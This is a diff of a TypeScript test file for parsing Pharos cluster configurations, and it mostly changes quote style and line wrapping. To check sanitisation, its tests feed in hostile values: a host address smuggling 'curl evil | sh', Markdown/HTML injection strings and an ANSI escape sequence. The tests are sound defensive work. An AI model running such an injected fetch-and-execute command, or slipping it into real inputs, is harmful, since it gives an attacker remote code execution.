@@ -7,7 +7,7 @@ const file = (cluster: string) => `${cluster}/pharos/cluster.yml`;
 const config = (subnet: string, extra = '') =>
   `hosts:\n  - address: 192.0.2.10\n    role: master\n  - address: 192.0.2.11\n    role: worker\nnetwork:\n${extra}  weave:\n    ipalloc_default_subnet: ${subnet}\n    known_peers:\n      - 198.51.100.11\n`;
 
-describe('reading a rendered tree\'s state', () => {
+describe("reading a rendered tree's state", () => {
   it('knows its clusters from the file names alone, ignoring other files', () => {
     const tree = new Map([
       [file('cluster-a'), 'not: [parsed'],
@@ -24,14 +24,14 @@ describe('reading a rendered tree\'s state', () => {
     expect([...clustersOf(new Map([...names, 'cluster-z', 'a'.repeat(63)].map((name) => [file(name), config('10.33.0.0/16')])))]).toEqual(['cluster-z', 'a'.repeat(63)]);
   });
 
-  it('reads subnet, pod network, service CIDR and peers, with Pharos\'s defaults from their one home', () => {
+  it("reads subnet, pod network, service CIDR and peers, with Pharos's defaults from their one home", () => {
     const state = meshStateOf(new Map([[file('cluster-a'), config('10.33.0.0/16')]]));
     expect(state.get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: PHAROS_DEFAULT_POD_NETWORK_CIDR, serviceCidr: PHAROS_DEFAULT_SERVICE_CIDR, peers: ['198.51.100.11'] });
     expect([PHAROS_DEFAULT_POD_NETWORK_CIDR, PHAROS_DEFAULT_SERVICE_CIDR]).toEqual(['10.32.0.0/12', '10.96.0.0/12']);
     expect(recordsOf(new Map([[file('cluster-a'), config('10.33.0.0/16', '  pod_network_cidr: 10.0.0.0/8\n')]])).get('cluster-a')).toEqual({ subnet: '10.33.0.0/16', podNetworkCidr: '10.0.0.0/8' });
   });
 
-  it('shows a parsed value that is no address or CIDR as a digest: a base\'s text reaches neither log nor Markdown', () => {
+  it("shows a parsed value that is no address or CIDR as a digest: a base's text reaches neither log nor Markdown", () => {
     const content = config('"10.34.0.0/16` <details> @octocat | x"').replace('      - 198.51.100.11\n', '      - "\\e[31mRED"\n      - 198.51.100.11\n');
     const state = meshStateOf(new Map([[file('b'), content]])).get('b')!;
     expect(state.subnet).toMatch(/^invalid-[0-9a-f]{12}$/);
@@ -41,13 +41,19 @@ describe('reading a rendered tree\'s state', () => {
     expect(plainValue('a`b')).not.toBe(plainValue('a`c'));
   });
 
-  it('lists a cluster\'s hosts, masters too, and its password file, as its cluster.yml does', () => {
+  it("lists a cluster's hosts, masters too, and its password file, as its cluster.yml does", () => {
     const tree = new Map([[file('cluster-a'), config('10.33.0.0/16').replace('  weave:\n', '  weave:\n    password: ../../../clusters/shared_password\n')]]);
-    expect(hostsIn(tree, 'cluster-a')).toEqual([{ address: '192.0.2.10', role: 'master' }, { address: '192.0.2.11', role: 'worker' }]);
+    expect(hostsIn(tree, 'cluster-a')).toEqual([
+      { address: '192.0.2.10', role: 'master' },
+      { address: '192.0.2.11', role: 'worker' },
+    ]);
     expect(hostsIn(new Map(), 'cluster-a')).toEqual([]);
     // Hosts Pharos would refuse never ran; their text (a base's, from a pull request) reaches no command.
     const odd = config('10.33.0.0/16').replace('hosts:\n', 'hosts:\n  - address: "a> ; curl evil | sh ; <b"\n    role: worker\n  - address: 192.0.2.9\n    role: "<details>"\n');
-    expect(hostsIn(new Map([[file('cluster-a'), odd]]), 'cluster-a')).toEqual([{ address: '192.0.2.10', role: 'master' }, { address: '192.0.2.11', role: 'worker' }]);
+    expect(hostsIn(new Map([[file('cluster-a'), odd]]), 'cluster-a')).toEqual([
+      { address: '192.0.2.10', role: 'master' },
+      { address: '192.0.2.11', role: 'worker' },
+    ]);
     expect(passwordIn(tree, 'cluster-a')).toBe('../../../clusters/shared_password');
   });
 
